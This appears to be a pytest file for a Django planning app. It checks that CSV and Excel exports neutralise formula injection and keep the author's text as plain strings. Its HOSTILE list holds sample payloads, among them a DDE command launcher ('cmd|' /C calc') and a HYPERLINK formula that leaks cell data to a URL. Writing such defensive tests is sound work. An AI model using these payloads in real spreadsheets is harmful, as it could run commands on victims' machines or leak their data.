"""What an author wrote is only text in a spreadsheet: in plans and in their frozen versions."""

import csv
import io
from collections.abc import Callable

import openpyxl
import pytest
from tests.factories.approvals import NOW, make_draft

from mezhgorod.planning.actions.approval.versions import ensure_first_version
from mezhgorod.planning.actions.changes.regrouping import add_item
from mezhgorod.planning.actions.history import Grounds
from mezhgorod.planning.actions.rows.writing import RowPlace
from mezhgorod.planning.models import Plan
from mezhgorod.planning.queries import layout_choices
from mezhgorod.planning.rules import PlanState
from mezhgorod.publication.files import plan_file
from mezhgorod.publication.links import Links
from mezhgorod.publication.versions import version_file
from mezhgorod.registry.rules import SYSTEM

pytestmark = pytest.mark.django_db
LINKS = Links(
    event=lambda uid: f"https://example.org/events/{uid}/",
    plan=lambda slug: f"https://example.org/plans/{slug}/",
    city=lambda slug: f"https://example.org/cities/{slug}/",
)
HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1;"Открыть")',
    "+7 900 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@СУММ(1;1)",
    "\t=1+1",
    "  =1+1",
    "\r=1+1",
    "＝1+1",
)


def of_version(plan: Plan, extension: str) -> bytes:
    version = ensure_first_version(plan=plan, actor=SYSTEM, now=NOW)
    assert version is not None
    return version_file(version=version, extension=extension).content


def of_plan(plan: Plan, extension: str) -> bytes:
    layout = layout_choices(plan=plan)[0].layout
    return plan_file(plan=plan, layout=layout, extension=extension, links=LINKS).content


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("export", [of_plan, of_version])
def test_a_csv_begins_no_cell_with_a_formula(
    export: Callable[[Plan, str], bytes], words: str
) -> None:
    plan = hostile(words)

    text = export(plan, "csv").decode("utf-8-sig")

    cells = [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]
    assert any(words.strip() in cell for cell in cells)
    wrong = [
        one for one in cells if one.strip()[:1] in {"=", "+", "-", "@", "＝"} and not number(one)
    ]
    assert wrong == []


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("export", [of_plan, of_version])
def test_a_workbook_keeps_it_as_text(export: Callable[[Plan, str], bytes], words: str) -> None:
    plan = hostile(words)

    book = openpyxl.load_workbook(io.BytesIO(export(plan, "xlsx")))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    found = [cell for cell in cells if words.strip() in str(cell.value)]
    assert found
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
    assert [cell.hyperlink for cell in found] == [None] * len(found)


def hostile(words: str) -> Plan:
    plan = make_draft()
    add_item(
        plan=plan,
        place=RowPlace(plan.sections.get()),
        cells=(("title", words), ("place", words), ("timing", words)),
        grounds=Grounds(),
        actor=SYSTEM,
        now=NOW,
    )
    Plan.objects.update(state=PlanState.PUBLISHED)
    return Plan.objects.get()


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
